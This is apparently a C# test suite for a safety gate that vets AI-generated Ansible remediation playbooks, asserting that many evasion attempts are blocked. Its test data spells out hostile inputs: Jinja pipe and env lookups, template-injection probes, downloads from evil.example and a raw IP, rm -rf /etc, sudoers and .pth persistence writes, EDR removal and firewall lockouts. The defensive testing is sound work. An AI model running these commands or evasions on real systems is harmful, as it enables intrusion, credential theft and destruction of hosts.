using SiemAi.Contracts;

namespace SiemAi.Safety.Tests;

/// <summary>
/// Issue 16's "Why", class by class: at least three spellings each, every one named by the rule it must hit.
/// The gate runs with the corpus settings (egress to packages.soc.example and edr.soc.example only, alert hosts web01/db01).
/// </summary>
public sealed class When_a_playbook_tries_to_walk_around_the_profile
{
    private static readonly PlaybookSafetyGate Gate = new(Corpus.Options());

    private static string Play(string playExtra, string tasks) =>
        $"- name: Remediation\n  hosts: web01\n  become: true\n  gather_facts: false\n{playExtra}  tasks:\n{tasks}";

    private static string Task(string body) => Play("", "    - name: Step\n" + body);

    private static void AssertBlocks(string yaml, string rule)
    {
        var report = Gate.Check(yaml, Corpus.AlertHosts);
        var findings = string.Join("; ", report.Findings.Select(f => $"{f.Rule} at {f.Path}: {f.Message}"));
        Assert.True(report.Verdict == SafetyVerdict.Block, $"not blocked: {findings}\n{yaml}");
        Assert.True(report.Findings.Any(f => f.Rule == rule && f.Severity == FindingSeverity.Block), $"expected {rule}, got: {findings}\n{yaml}");
    }

    // 1. Play-level keywords that ansible-playbook --syntax-check would render.
    [Theory]
    [InlineData("  vars:\n    x: \"{{ (lookup)('pipe', 'id > /tmp/x') }}\"\n")]
    [InlineData("  vars:\n    x: \"{{ q('pipe', 'id') }}\"\n")]
    [InlineData("  vars:\n    x: \"{{ 'id' | lookup('pipe') }}\"\n")]
    [InlineData("  vars:\n    x: \"{{ query('env', 'DB_PASSWORD') }}\"\n")]
    [InlineData("  vars:\n    x: \"{% set y = lookup('pipe', 'id') %}\"\n")]
    public void Class_1_blocks_a_lookup_in_a_play_keyword(string playExtra) =>
        AssertBlocks(Play(playExtra, "    - ansible.builtin.debug:\n        msg: hi\n"), SafetyRules.UnsafeTemplate);

    [Theory]
    [InlineData("name: \"{{ (lookup)('pipe', 'id') }}\"")]
    [InlineData("gather_facts: \"{{ (lookup)('env', 'DB_PASSWORD') }}\"")]
    [InlineData("name: \"{{ lipsum.__globals__ }}\"")]
    public void Class_1_blocks_a_template_in_the_play_header(string header)
    {
        var yaml = $"- {header}\n  hosts: web01\n  tasks:\n    - ansible.builtin.debug:\n        msg: hi\n";
        AssertBlocks(yaml, SafetyRules.UnsafeTemplate);
    }

    // 2. Bare expressions Ansible evaluates without {{ }}, and templated keys.
    [Theory]
    [InlineData("      ansible.builtin.debug:\n        msg: hi\n      when: (lookup)('pipe', 'id')\n")]
    [InlineData("      ansible.builtin.debug:\n        msg: hi\n      failed_when: lookup('pipe', 'id') | length > 0\n")]
    [InlineData("      ansible.builtin.debug:\n        msg: hi\n      changed_when: x.__class__ is defined\n      vars:\n        x: 1\n")]
    [InlineData("      ansible.builtin.debug:\n        msg: hi\n      until: q('env', 'HOME')\n")]
    [InlineData("      ansible.builtin.assert:\n        that: [\"query('env', 'DB_PASSWORD') != ''\"]\n")]
    [InlineData("      ansible.builtin.debug:\n        var: lookup('env', 'HOME')\n")]
    [InlineData("      ansible.builtin.set_fact:\n        \"{{ 'ansible_' ~ 'connection' }}\": local\n")]
    [InlineData("      ansible.builtin.debug:\n        msg: \"{{ x | unknown_filter }}\"\n      vars:\n        x: 1\n")]
    [InlineData("      ansible.builtin.debug:\n        msg: \"{{ undeclared_secret }}\"\n")]
    public void Class_2_blocks_code_in_bare_expressions_and_keys(string body) =>
        AssertBlocks(Task(body), SafetyRules.UnsafeTemplate);

    // 3. Escaping check mode on the managed host.
    [Theory]
    [InlineData("      ansible.builtin.debug:\n        msg: hi\n      become_flags: \"-E\"\n", SafetyRules.KeywordNotAllowed)]
    [InlineData("      ansible.builtin.debug:\n        msg: hi\n      become_user: \"postgres\"\n", SafetyRules.KeywordNotAllowed)]
    [InlineData("      ansible.builtin.debug:\n        msg: hi\n      become_method: su\n", SafetyRules.KeywordNotAllowed)]
    [InlineData("      ansible.builtin.debug:\n        msg: \"{{ ansible_python_interpreter }}\"\n      loop: [\"/tmp/x\"]\n      loop_control:\n        loop_var: ansible_python_interpreter\n", SafetyRules.KeywordNotAllowed)]
    [InlineData("      ? !!merge x\n      : {check_mode: false}\n      ansible.builtin.debug:\n        msg: hi\n", SafetyRules.YamlMergeKey)]
    [InlineData("      <<: {check_mode: false}\n      ansible.builtin.debug:\n        msg: hi\n", SafetyRules.YamlMergeKey)]
    [InlineData("      ansible.builtin.debug:\n        msg: hi\n      become: \"{{ true }}\"\n", SafetyRules.KeywordNotAllowed)]
    public void Class_3_blocks_ways_out_of_check_mode(string body, string rule) => AssertBlocks(Task(body), rule);

    // 4. Arguments the gate would not see, spellings it would misread, and places it did not guard.
    [Theory]
    [InlineData("      ansible.builtin.copy: \"{{ p }}\"\n      vars:\n        p: {dest: /tmp/x}\n", SafetyRules.ArgumentSplatting)]
    [InlineData("      ansible.builtin.copy:\n      args: \"{{ p }}\"\n      vars:\n        p: {dest: /tmp/x}\n", SafetyRules.ArgumentSplatting)]
    [InlineData("      ansible.builtin.file: \"path={{ p }} state=absent\"\n      vars:\n        p: /etc\n", SafetyRules.ArgumentSplatting)]
    [InlineData("      ansible.builtin.package:\n        name: nginx\n        state: present\n        use: raw\n", SafetyRules.ArgumentNotAllowed)]
    [InlineData("      ansible.builtin.service:\n        name: nginx\n        state: restarted\n        use: raw\n", SafetyRules.ArgumentNotAllowed)]
    [InlineData("      ansible.builtin.copy:\n        dest: /etc/sudoers\n        content: \"x\"\n        validate: /bin/true %s\n", SafetyRules.ArgumentNotAllowed)]
    [InlineData("      ansible.builtin.file:\n        path: /var/tmp/x\n        state: touch\n        mode: 0x1ff\n", SafetyRules.InsecurePermissions)]
    [InlineData("      ansible.builtin.file:\n        path: /var/tmp/x\n        state: touch\n        mode: 0_777\n", SafetyRules.InsecurePermissions)]
    [InlineData("      ansible.builtin.file:\n        path: /var/tmp/x\n        state: touch\n        mode: 0b111111111\n", SafetyRules.InsecurePermissions)]
    [InlineData("      ansible.builtin.file:\n        path: /var/tmp/x\n        state: touch\n        mode: 8:31\n", SafetyRules.InsecurePermissions)]
    [InlineData("      ansible.builtin.get_url:\n        url: \"<URL:http://evil.example/x>\"\n        dest: /var/tmp/x\n", SafetyRules.EgressNotAllowed)]
    [InlineData("      ansible.builtin.get_url:\n        url: \"http://evil.example#@packages.soc.example/x\"\n        dest: /var/tmp/x\n", SafetyRules.EgressNotAllowed)]
    [InlineData("      ansible.builtin.get_url:\n        url: \"http://packages.soc.example\\\\@evil.example/x\"\n        dest: /var/tmp/x\n", SafetyRules.EgressNotAllowed)]
    [InlineData("      ansible.builtin.get_url:\n        url: \"http://user@evil.example/x\"\n        dest: /var/tmp/x\n", SafetyRules.EgressNotAllowed)]
    [InlineData("      ansible.posix.mount:\n        path: /mnt\n        src: /dev/sdb1\n        fstype: ext4\n        state: remounted\n", SafetyRules.SecurityControlDisabled)]
    [InlineData("      ansible.posix.sysctl:\n        name: kernel.core_pattern\n        value: \"|/tmp/x\"\n", SafetyRules.SecurityControlDisabled)]
    [InlineData("      ansible.posix.seboolean:\n        name: httpd_execmem\n        state: true\n", SafetyRules.ModuleNotAllowed)]
    [InlineData("      ansible.builtin.copy:\n        dest: /etc/ssh/sshd_config\n        content: \"PermitRootLogin no\"\n", SafetyRules.SensitiveFileWrite)]
    [InlineData("      ansible.builtin.copy:\n        dest: /root/.ssh/rc\n        content: \"id\"\n", SafetyRules.Persistence)]
    [InlineData("      ansible.builtin.copy:\n        dest: /etc/apt/apt.conf.d/99x\n        content: \"x\"\n", SafetyRules.Persistence)]
    [InlineData("      ansible.builtin.copy:\n        dest: /usr/lib/python3/dist-packages/x.pth\n        content: \"import os\"\n", SafetyRules.Persistence)]
    [InlineData("      ansible.builtin.copy:\n        dest: /usr/local/lib/python3.11/dist-packages/x.pth\n        content: \"import os\"\n", SafetyRules.Persistence)]
    [InlineData("      ansible.builtin.lineinfile:\n        path: /etc/logrotate.d/x\n        line: \"x\"\n", SafetyRules.Persistence)]
    [InlineData("      ansible.builtin.file:\n        path: /opt/microsoft/mdatp\n        state: absent\n", SafetyRules.DestructivePath)]
    [InlineData("      ansible.builtin.file:\n        path: /opt/splunkforwarder\n        state: absent\n", SafetyRules.DestructivePath)]
    [InlineData("      ansible.builtin.package:\n        name: mdatp\n        state: absent\n", SafetyRules.CriticalPackageRemoval)]
    [InlineData("      ansible.builtin.package:\n        name: [filebeat, fail2ban]\n        state: absent\n", SafetyRules.CriticalPackageRemoval)]
    [InlineData("      ansible.builtin.command: tee -a /etc/sudoers\n", SafetyRules.ArbitraryCommand)]
    [InlineData("      ansible.builtin.command:\n        argv: [curl, -o, /tmp/x, http://198.51.100.9/x]\n", SafetyRules.ArbitraryCommand)]
    [InlineData("      ansible.builtin.command:\n        argv: [rm, -rf, --, /etc]\n", SafetyRules.ArbitraryCommand)]
    public void Class_4_blocks_arguments_the_gate_used_to_miss(string body, string rule) => AssertBlocks(Task(body), rule);

    // 5. An allowed module with a value that takes the fleet down.
    [Theory]
    [InlineData("      ansible.builtin.iptables:\n        chain: INPUT\n        source: 0.0.0.0/0\n        jump: DROP\n", SafetyRules.OperatorLockout)]
    [InlineData("      ansible.builtin.iptables:\n        chain: INPUT\n        source: \"::/0\"\n        jump: DROP\n        ip_version: ipv6\n", SafetyRules.OperatorLockout)]
    [InlineData("      ansible.builtin.iptables:\n        chain: INPUT\n        source: 10.0.0.0/8\n        jump: REJECT\n", SafetyRules.OperatorLockout)]
    [InlineData("      ansible.builtin.iptables:\n        chain: INPUT\n        protocol: tcp\n        destination_port: \"22\"\n        jump: DROP\n", SafetyRules.OperatorLockout)]
    [InlineData("      community.general.ufw:\n        rule: deny\n        port: \"22\"\n", SafetyRules.OperatorLockout)]
    [InlineData("      ansible.builtin.user:\n        name: root\n        password_lock: true\n", SafetyRules.OperatorLockout)]
    [InlineData("      ansible.builtin.user:\n        name: root\n        shell: /usr/sbin/nologin\n", SafetyRules.OperatorLockout)]
    [InlineData("      ansible.builtin.command: kill -9 1\n", SafetyRules.DestructiveCommand)]
    [InlineData("      ansible.builtin.systemd:\n        name: mdatp\n        state: stopped\n", SafetyRules.SecurityControlDisabled)]
    public void Class_5_blocks_harmful_values_of_allowed_modules(string body, string rule) => AssertBlocks(Task(body), rule);

    // 6. Targets: only the alert's hosts, never a group, a pattern or the controller.
    [Theory]
    [InlineData("lab", SafetyRules.HostsNotAllowed)]
    [InlineData("web01:lab", SafetyRules.HostsNotAllowed)]
    [InlineData("web*", SafetyRules.HostsTooBroad)]
    [InlineData("all", SafetyRules.HostsTooBroad)]
    [InlineData("localhost", SafetyRules.ControllerExecution)]
    [InlineData("127.0.0.1", SafetyRules.ControllerExecution)]
    public void Class_6_blocks_targets_outside_the_alert(string hosts, string rule) =>
        AssertBlocks($"- name: Remediation\n  hosts: \"{hosts}\"\n  tasks:\n    - ansible.builtin.debug:\n        msg: hi\n", rule);

    [Fact]
    public void Lets_an_operator_widen_to_literal_command_lines_that_then_need_the_cab()
    {
        var options = Corpus.Options();
        options.AllowLiteralShellCommands = true;
        var report = new PlaybookSafetyGate(options).Check(Task("      ansible.builtin.command: ss -tnp\n      changed_when: false\n"), Corpus.AlertHosts);

        Assert.Equal(SafetyVerdict.Warn, report.Verdict);
        Assert.Equal(RiskLevel.Critical, report.Risk);
        Assert.Contains(report.Findings, f => f.Rule == SafetyRules.ShellCommand);
    }

    [Theory]
    [InlineData("{{ x | default('-') | lower }}")]
    [InlineData("{{ 'ipv6' if ':' in x else 'ipv4' }}")]
    [InlineData("{{ facts.tcp_listen | default([]) | map(attribute='port') | list | join(', ') }}")]
    [InlineData("{% if x is defined %}{{ x | upper }}{% else %}none{% endif %}")]
    [InlineData("{{ x['name'] ~ '-' ~ (x | length) }}")]
    public void Accepts_jinja_inside_the_grammar(string template)
    {
        var yaml = Task($"      ansible.builtin.debug:\n        msg: \"{template}\"\n      vars:\n        x: a\n        facts: {{}}\n");
        var report = Gate.Check(yaml, Corpus.AlertHosts);
        Assert.True(report.Verdict == SafetyVerdict.Pass, string.Join("; ", report.Findings.Select(f => $"{f.Rule}: {f.Message}")));
    }
}
